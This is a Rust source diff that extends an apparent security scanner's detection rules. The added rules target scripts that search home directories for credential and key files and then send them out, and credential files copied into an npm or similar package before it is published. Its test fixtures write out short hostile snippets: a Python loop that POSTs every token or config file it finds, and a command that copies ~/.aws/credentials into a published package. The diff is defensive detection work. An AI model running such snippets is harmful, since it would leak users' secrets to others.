@@ -71,7 +71,8 @@ static ADDRESS_FED: Signal = Signal::phrase(
 static SECRETS_SOUGHT: Signal = Signal::command(
     &["glob", "find ", "walk", "rglob", "get-childitem", "readdir", "endswith", "-include"],
     r"(?x)
-      \bends[Ww]ith\s*\(\s*[(\[]?[^)\n]{0,60}['\x22]\.?(?:env|pem|key|kdbx|ovpn|p12|pfx|ppk|wallet)['\x22] | \bGet-ChildItem\b[^\n]*-Include\s[^\n|]*\*\.(?:kdbx|ovpn|pem|key|ppk|pfx|wallet)\b | \b(?:r?glob|iglob|globSync|glob\.glob)\s*\([^\n]{0,120}?(?:\*[\w.-]{0,12}(?:token|secret|credential|passw|wallet|keystore|\.pem|\.key|id_rsa|\.env)|(?:token|secret|credential|passw|wallet|keystore)[\w.-]{0,12}\*|\*\.(?:pem|key|env|kdbx|p12|pfx)) | \bfind\s+(?:~|/|\$HOME|\$\{HOME\}|/home|/Users)[^\n]{0,80}?-i?name\s+[\x22']?[^\s]{0,20}(?:token|secret|credential|passw|wallet|id_rsa|\.pem|\.key|\.env|\.kdbx)",
+      \bends[Ww]ith\s*\(\s*[(\[]?[^)\n]{0,60}['\x22]\.?(?:env|pem|key|kdbx|ovpn|p12|pfx|ppk|wallet)['\x22] | \bGet-ChildItem\b[^\n]*-Include\s[^\n|]*\*\.(?:kdbx|ovpn|pem|key|ppk|pfx|wallet)\b | \b(?:r?glob|iglob|globSync|glob\.glob)\s*\([^\n]{0,120}?(?:\*[\w.-]{0,12}(?:token|secret|credential|passw|wallet|keystore|\.pem|\.key|id_rsa|\.env)|(?:token|secret|credential|passw|wallet|keystore)[\w.-]{0,12}\*|\*\.(?:pem|key|env|kdbx|p12|pfx)) | \bfind\s+(?:~|/|\$HOME|\$\{HOME\}|/home|/Users)[^\n]{0,80}?-i?name\s+[\x22']?[^\s]{0,20}(?:token|secret|credential|passw|wallet|id_rsa|\.pem|\.key|\.env|\.kdbx)
+    | \b(?:r?glob|iglob|globSync)\s*\([^\n]{0,40}?(?:~|home\(\)|homedir\(\)|expanduser)[^\n]{0,40}?(?:\.config|Library|AppData|Documents|Desktop)[^\n]{0,20}?\*",
 );
 
 /// The microphone or the camera stays on.
@@ -99,6 +100,19 @@ static FOREIGN_BUCKET: Signal = Signal::command(
     r"(?x)
       \baws\s+s3\s+(?:cp|mv|sync)\s+(?:--?[\w-]+(?:=\S+)?\s+)*[^\s-]\S*\s+s3://[a-z0-9][\w.-]{2,62}\b[^\n]*(?:--no-sign-request|--acl[=\s]+bucket-owner-)
     | \bcurl\b[^\n]*(?:-T|--upload-file|--data-binary|-X\s*PUT)\b[^\n]*(?:\?s[vp]=[^\s\x22']*&sig=|X-(?:Amz|Goog)-Signature=)",
+);
+
+/// A store of keys is copied.
+static KEYS_COPIED: Signal = Signal::command(
+    &["cp ", "copy ", "install "],
+    r"(?x)
+      \b(?:cp|copy|install|Copy-Item)\s+(?:-\S+\s+)*[^\s;&|]*(?:\.npmrc|\.aws[/\\]credentials|\.netrc|\.ssh/id_\w+|\.pypirc|\.kube/config|\.docker/config\.json|\.git-credentials)\s+\S",
+);
+
+/// What is there is published.
+static PUBLISHED: Signal = Signal::command(
+    &["npm publish", "yarn publish", "pnpm publish", "cargo publish", "twine upload", "gem push", "docker push"],
+    r"\b(?:npm|yarn|pnpm|cargo)\s+publish\b|\btwine\s+upload\b|\bgem\s+push\b|\bdocker\s+push\b",
 );
 
 pub(super) static RULES: &[Rule] = &[
@@ -191,7 +205,7 @@ pub(super) static RULES: &[Rule] = &[
         why: "no honest script walks through a home for tokens and has a way out beside it",
         fix: "remove the script; renew what it may have found",
         when: When::Near(300, &[&[&SECRETS_SOUGHT], &[&CODE_SEND]]),
-        hits: &["@a.py\nfor f in glob.glob(home + '/**/*token*', recursive=True):\n    requests.post(url, data=open(f).read())\n"],
+        hits: &["@a.py\nfor f in glob.glob(os.path.expanduser('~/.config/**/*.json'), recursive=True):\n    requests.post(url, data=open(f).read())\n", "@a.py\nfor f in glob.glob(home + '/**/*token*', recursive=True):\n    requests.post(url, data=open(f).read())\n"],
         misses: &["@a.py\nfor f in glob.glob('docs/*.md'):\n    requests.post(url, data=open(f).read())\n"],
         ..Rule::BASE
     },
@@ -246,6 +260,21 @@ pub(super) static RULES: &[Rule] = &[
             "```bash\naws s3 cp s3://open-data/a.csv . --no-sign-request\n```\n",
             "```bash\naws s3 cp dump.gz s3://my-backups/1.gz\n```\n",
         ],
+        ..Rule::BASE
+    },
+    Rule {
+        id: "MALWAR-EXFIL-085",
+        title: "Keys are copied into what is published",
+        severity: Severity::Critical,
+        confidence: 74,
+        category: Category::DataExfiltration,
+        taxa: &["EX-01", "SC-05"],
+        why: "a package is read by everybody, and by machines that look for keys",
+        fix: "take the version back; renew the keys",
+        when: When::Order(200, &[&[&KEYS_COPIED], &[&PUBLISHED]]),
+        guard: Some(judges::in_code),
+        hits: &["```bash\ncp ~/.aws/credentials ./dist/c.txt && npm publish ./dist\n```\n"],
+        misses: &["```bash\ncp README.md ./dist/ && npm publish ./dist\n```\n"],
         ..Rule::BASE
     },
 ];
